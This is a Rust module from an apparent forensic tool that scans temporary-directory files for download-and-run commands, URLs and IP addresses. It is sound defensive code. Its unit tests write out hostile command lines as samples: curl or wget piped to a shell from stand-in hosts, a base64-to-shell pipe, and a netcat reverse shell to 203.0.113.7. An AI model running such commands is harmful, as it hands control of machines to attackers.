//! Indicators in the text files of temporary directories: lines that download code and run it
//! (`download-and-run`), URLs (`script-url`) and IPv4 addresses (`script-ip-address`).
//!
//! Read: the copies of [`TEMP_DIRS`] (`5-filesystem/root/tmp/…`, …), and the writable layer's
//! copies under those directories (`5-filesystem/upper/tmp/…`) of files that have no current
//! copy. Bounded: a file is scanned only when it is at most [`MAX_FILE`] bytes and holds no NUL
//! byte (text); at most [`MAX_FILES`] files and [`MAX_TOTAL`] bytes in all. What was not scanned
//! is counted in `not_checked`. One finding per line, the strongest kind; at most
//! [`MAX_PER_FILE`] findings a file.

use crate::error::AnalysisError;
use crate::evidence::Evidence;
use crate::findings::{Finding, FindingId, Severity};
use crate::members::{ROOT_COPIES, UPPER_COPIES};
use forensic_bundle::verify::OpenReader;
use forensic_evidence::paths::TEMP_DIRS;
use std::io::Read;
use std::net::{IpAddr, Ipv4Addr};

/// Largest file scanned.
pub const MAX_FILE: u64 = 1 << 20;
/// Most files scanned.
pub const MAX_FILES: usize = 2_000;
/// Most bytes scanned in all.
pub const MAX_TOTAL: u64 = 64 << 20;
/// Most findings for one file.
pub const MAX_PER_FILE: usize = 10;
/// Longest quotation of a line, in characters.
pub const MAX_QUOTE: usize = 200;

/// Programs that download.
const DOWNLOADERS: [&str; 5] = ["curl", "wget", "fetch", "tftp", "ftpget"];
/// Programs that run what they read.
const RUNNERS: [&str; 14] = [
    "sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "python", "python2", "python3", "perl", "ruby", "php", "node",
];

/// What one line shows, strongest first.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Indicator {
    /// The line downloads code and runs it.
    DownloadAndRun,
    /// The line names URLs.
    Url(Vec<String>),
    /// The line names IPv4 addresses (and no URL).
    Ip(Vec<Ipv4Addr>),
}

/// What `line` shows, if anything.
pub fn classify(line: &str) -> Option<Indicator> {
    if downloads_and_runs(line) {
        return Some(Indicator::DownloadAndRun);
    }
    let urls = urls(line);
    if !urls.is_empty() {
        return Some(Indicator::Url(urls));
    }
    let ips = ipv4s(line);
    (!ips.is_empty()).then_some(Indicator::Ip(ips))
}

/// The program a command runs: its first word after `sudo`, `env`, `exec`, `busybox`, variable
/// assignments and options of those, without a directory (`/bin/sh` → `sh`).
fn program(command: &str) -> Option<&str> {
    command
        .split_whitespace()
        .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == '{'))
        .filter(|w| !w.is_empty())
        .find(|w| {
            !matches!(*w, "sudo" | "env" | "exec" | "busybox" | "nohup" | "then" | "do")
                && !w.starts_with('-')
                && !w.contains('=')
        })
        .map(|w| w.rsplit('/').next().unwrap_or(w))
}

fn is_runner(word: Option<&str>) -> bool {
    word.is_some_and(|w| RUNNERS.contains(&w) || w.starts_with("python"))
}

/// Whether some word of `command` is a downloader.
fn downloads(command: &str) -> bool {
    command
        .split(|c: char| c.is_whitespace() || c == '(' || c == '`' || c == '"' || c == '\'')
        .map(|w| w.rsplit('/').next().unwrap_or(w))
        .any(|w| DOWNLOADERS.contains(&w))
}

fn base64_decodes(command: &str) -> bool {
    let mut words = command.split_whitespace();
    words.any(|w| w.rsplit('/').next() == Some("base64"))
        && command
            .split_whitespace()
            .any(|w| matches!(w, "-d" | "--decode" | "-D" | "-di" | "-id"))
}

/// `curl … | sh`, `wget -O- … | bash`, `base64 -d | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`,
/// and `wget URL && chmod +x FILE && ./FILE`.
fn downloads_and_runs(line: &str) -> bool {
    let line = line.trim();
    if line.starts_with('#') {
        return false;
    }
    let commands: Vec<&str> = line
        .split("&&")
        .flat_map(|c| c.split("||"))
        .flat_map(|c| c.split(';'))
        .collect();
    for command in &commands {
        let stages: Vec<&str> = command.split('|').collect();
        for (i, stage) in stages.iter().enumerate().skip(1) {
            let before = stages.get(..i).unwrap_or_default();
            if is_runner(program(stage)) && before.iter().any(|s| downloads(s) || base64_decodes(s)) {
                return true;
            }
        }
        // A runner of a command substitution or process substitution that downloads.
        if is_runner(program(command))
            && ["$(", "<(", "`"].iter().any(|open| {
                command
                    .split(open)
                    .skip(1)
                    .any(|inner| downloads(inner.split(')').next().unwrap_or(inner)))
            })
        {
            return true;
        }
    }
    // Download, make executable, run: in that order on the line.
    let download = commands.iter().position(|c| downloads(c));
    let chmod = commands.iter().position(|c| {
        program(c) == Some("chmod")
            && c.split_whitespace().any(|w| {
                w.contains("+x")
                    || (w.len() == 3 && w.bytes().all(|b| (b'0'..=b'7').contains(&b)) && w.bytes().any(|b| b & 1 == 1))
            })
    });
    if let (Some(d), Some(x)) = (download, chmod) {
        return d < x
            && commands.iter().skip(x + 1).any(|c| {
                let first = c.split_whitespace().next().unwrap_or_default();
                first.starts_with("./") || first.starts_with('/') || is_runner(program(c))
            });
    }
    false
}

/// URLs on the line (`http://`, `https://`, `ftp://`, `tftp://`), each up to the next space,
/// quote or shell operator, without a trailing `,` or `.`.
pub fn urls(line: &str) -> Vec<String> {
    let lower = line.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(at) = ["http://", "https://", "ftp://", "tftp://"]
        .iter()
        .filter_map(|s| lower.get(from..)?.find(s).map(|i| i + from))
        .min()
    {
        let rest = line.get(at..).unwrap_or_default();
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '|' | ';' | ')'))
            .unwrap_or(rest.len());
        let url = rest.get(..end).unwrap_or_default().trim_end_matches([',', '.']);
        if url.len() > url.find("://").map_or(0, |i| i + 3) {
            out.push(url.to_string());
        }
        from = at + end.max(1);
    }
    out
}

/// IPv4 addresses on the line: four decimal numbers 0–255 joined by dots, not part of a longer
/// run of digits and dots (a version such as `1.2.3.4.5` is not one).
pub fn ipv4s(line: &str) -> Vec<Ipv4Addr> {
    line.split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .map(|t| t.trim_end_matches('.'))
        .filter(|t| t.split('.').count() == 4 && t.split('.').all(|p| !p.is_empty() && p.len() <= 3))
        .filter_map(|t| t.parse().ok())
        .collect()
}

/// The quotation of a line: at most [`MAX_QUOTE`] characters, escaped.
fn quote(line: &str) -> String {
    let mut q: String = line.trim().chars().take(MAX_QUOTE).collect();
    let cut = q.len() < line.trim().len();
    q = forensic_evidence::escape(q.as_bytes());
    if cut {
        q.push('…');
    }
    format!("\"{q}\"")
}

/// The members to scan: copies under the temporary directories; the writable layer's only where
/// there is no current copy. `(member, container path)`.
fn members<S: OpenReader + ?Sized>(ev: &Evidence<'_, S>) -> Vec<(String, String)> {
    let under = |prefix: &str| -> Vec<(String, String)> {
        ev.names()
            .filter_map(|n| {
                let path = n.strip_prefix(prefix.trim_end_matches('/'))?;
                TEMP_DIRS
                    .iter()
                    .any(|d| path.strip_prefix(d).is_some_and(|r| r.starts_with('/') && r.len() > 1))
                    .then(|| (n.to_string(), path.to_string()))
            })
            .collect()
    };
    let mut out = under(ROOT_COPIES);
    for (member, path) in under(UPPER_COPIES) {
        if !out.iter().any(|(_, p)| *p == path) {
            out.push((member, path));
        }
    }
    out
}

/// Scans the text files of the temporary directories.
///
/// # Errors
/// A member is unreadable or does not match the manifest (strict).
pub(crate) fn temp_scripts<S: OpenReader + ?Sized>(
    ev: &mut Evidence<'_, S>,
    out: &mut Vec<Finding>,
    not_checked: &mut Vec<String>,
) -> Result<(), AnalysisError> {
    let (mut large, mut binary, mut over, mut scanned, mut total) = (0u64, 0u64, 0u64, 0usize, 0u64);
    let mut extra = 0u64;
    for (member, path) in members(ev) {
        if scanned >= MAX_FILES || total >= MAX_TOTAL {
            over += 1;
            continue;
        }
        let bytes = ev.stream(&member, |r| {
            let mut buf = Vec::new();
            r.take(MAX_FILE + 1)
                .read_to_end(&mut buf)
                .map_err(|source| AnalysisError::Io {
                    member: member.clone(),
                    source,
                })?;
            Ok(buf)
        })?;
        if bytes.len() as u64 > MAX_FILE {
            large += 1;
            continue;
        }
        if bytes.contains(&0) {
            binary += 1;
            continue;
        }
        scanned += 1;
        total += bytes.len() as u64;
        let text = String::from_utf8_lossy(&bytes);
        let mut found = 0usize;
        for (i, line) in text.lines().enumerate() {
            let Some(indicator) = classify(line) else {
                continue;
            };
            if found == MAX_PER_FILE {
                extra += 1;
                continue;
            }
            found += 1;
            let shown = forensic_evidence::escape(path.as_bytes());
            let evidence = vec![format!("{member} line {}", i + 1)];
            let q = quote(line);
            let finding = match indicator {
                Indicator::DownloadAndRun => Finding::new(
                    Severity::High,
                    FindingId::DownloadAndRun,
                    format!("{shown} line {} downloads code and runs it: {q}", i + 1),
                    evidence,
                ),
                Indicator::Url(urls) => Finding::new(
                    Severity::Medium,
                    FindingId::ScriptUrl,
                    format!(
                        "{shown} line {} names {}: {q}",
                        i + 1,
                        forensic_evidence::escape(urls.join(", ").as_bytes())
                    ),
                    evidence,
                ),
                Indicator::Ip(ips) => {
                    let public = ips.iter().any(|ip| !crate::suspicious::is_private(IpAddr::V4(*ip)));
                    let list: Vec<String> = ips.iter().map(Ipv4Addr::to_string).collect();
                    Finding::new(
                        if public { Severity::Medium } else { Severity::Low },
                        FindingId::ScriptIpAddress,
                        format!(
                            "{shown} line {} names {}{}: {q}",
                            i + 1,
                            list.join(", "),
                            if public { " (public)" } else { "" }
                        ),
                        evidence,
                    )
                }
            };
            out.push(finding.with_path(path.clone()));
        }
    }
    let mut why = Vec::new();
    if large > 0 {
        why.push(format!("{large} larger than {MAX_FILE} bytes"));
    }
    if binary > 0 {
        why.push(format!("{binary} not text (NUL bytes)"));
    }
    if over > 0 {
        why.push(format!("{over} past the first {MAX_FILES} files or {MAX_TOTAL} bytes"));
    }
    if !why.is_empty() {
        let n = large + binary + over;
        not_checked.push(format!(
            "indicators in temporary directories: {n} {} not scanned ({})",
            if n == 1 { "file" } else { "files" },
            why.join(", ")
        ));
    }
    if extra > 0 {
        not_checked.push(format!(
            "indicators in temporary directories: {extra} more indicator lines not reported (at most {MAX_PER_FILE} a file)"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn download_and_run_lines() {
        for l in [
            "curl -fsSL http://203.0.113.7/x | sh",
            "wget -q -O- http://203.0.113.7/stage2 | sh",
            "wget -O - https://evil.example/i.sh|/bin/bash -s",
            "curl http://x/a | sudo bash",
            "cd /tmp && wget http://x/m && chmod +x m && ./m",
            "wget http://x/m; chmod 755 /tmp/m; /tmp/m &",
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "sh -c \"$(curl -fsSL http://x/i.sh)\"",
            "bash <(wget -qO- http://x/i.sh)",
            "busybox wget -O- http://x | busybox sh",
        ] {
            assert_eq!(classify(l), Some(Indicator::DownloadAndRun), "{l}");
        }
        for l in [
            "# curl http://x | sh",
            "curl http://x -o /tmp/a",
            "ls | sh",
            "chmod +x a && ./a",
            "wget http://x/m && ./m",
        ] {
            assert_ne!(classify(l), Some(Indicator::DownloadAndRun), "{l}");
        }
    }

    #[test]
    fn urls_and_addresses() {
        assert_eq!(
            classify("see https://evil.example/a?b=1, then 'ftp://h/x'"),
            Some(Indicator::Url(vec![
                "https://evil.example/a?b=1".into(),
                "ftp://h/x".into()
            ]))
        );
        assert_eq!(
            classify("nc 203.0.113.7 4444 -e /bin/sh; ping 10.0.0.1."),
            Some(Indicator::Ip(vec![
                Ipv4Addr::new(203, 0, 113, 7),
                Ipv4Addr::new(10, 0, 0, 1)
            ]))
        );
        assert_eq!(classify("version 1.2.3.4.5 and 999.1.1.1 and http://"), None);
        assert_eq!(quote(&"x".repeat(300)).chars().count(), MAX_QUOTE + 3);
        assert_eq!(quote("a\u{1b}[2J"), "\"a\\u{1b}[2J\"");
    }
}
